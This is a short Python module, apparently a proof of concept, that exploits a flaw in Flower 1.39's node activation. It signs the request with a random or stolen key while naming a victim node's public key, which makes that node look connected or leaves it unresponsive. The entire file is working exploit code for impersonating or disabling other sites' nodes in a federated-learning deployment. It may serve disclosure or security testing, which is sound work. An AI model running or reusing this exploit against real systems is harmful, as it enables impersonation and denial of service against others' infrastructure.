"""Activation of a site's node by somebody else: with the site's stolen key, or with a key that is nobody's.

Flower 1.39 checks that a call to activate a node is signed by some key, and looks up the node by another one that the
call names. So in stock Flower the second kind works too, and leaves a node that answers nothing.
"""

from datetime import UTC, datetime
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from flwr.common.constant import PUBLIC_KEY_HEADER, SIGNATURE_HEADER, TIMESTAMP_HEADER
from flwr.proto.fleet_pb2 import ActivateNodeRequest
from flwr.proto.fleet_pb2_grpc import FleetStub
from flwr.supercore.grpc import create_channel
from flwr.supercore.primitives.asymmetric import public_key_to_bytes, sign_message
from flwr.supercore.runtime_version_compatibility import RuntimeVersionMetadata

__all__ = ["activate"]


def activate(superlink: str, ca: Path, public_key: Path, heartbeat: float, stolen: Path | None = None) -> int:
    """Make the node of a public key look connected, with a stolen key or one that is nobody's; return the node's id."""
    own = ec.generate_private_key(ec.SECP384R1())
    if stolen is not None:
        found = serialization.load_ssh_private_key(stolen.read_bytes(), None)
        assert isinstance(found, ec.EllipticCurvePrivateKey)
        own = found
    victim = serialization.load_ssh_public_key(public_key.read_bytes())
    assert isinstance(victim, ec.EllipticCurvePublicKey)
    now = datetime.now(UTC).isoformat()
    metadata = (
        (PUBLIC_KEY_HEADER, public_key_to_bytes(own.public_key())),
        (TIMESTAMP_HEADER, now),
        (SIGNATURE_HEADER, sign_message(own, now.encode("ascii"))),
        *RuntimeVersionMetadata.from_local_component("SuperNode").as_metadata(),
    )
    channel = create_channel(superlink, insecure=False, root_certificates=ca.read_bytes())
    try:
        request = ActivateNodeRequest(public_key=public_key_to_bytes(victim), heartbeat_interval=heartbeat)
        return int(FleetStub(channel).ActivateNode(request, metadata=metadata, timeout=20.0).node_id)
    finally:
        channel.close()
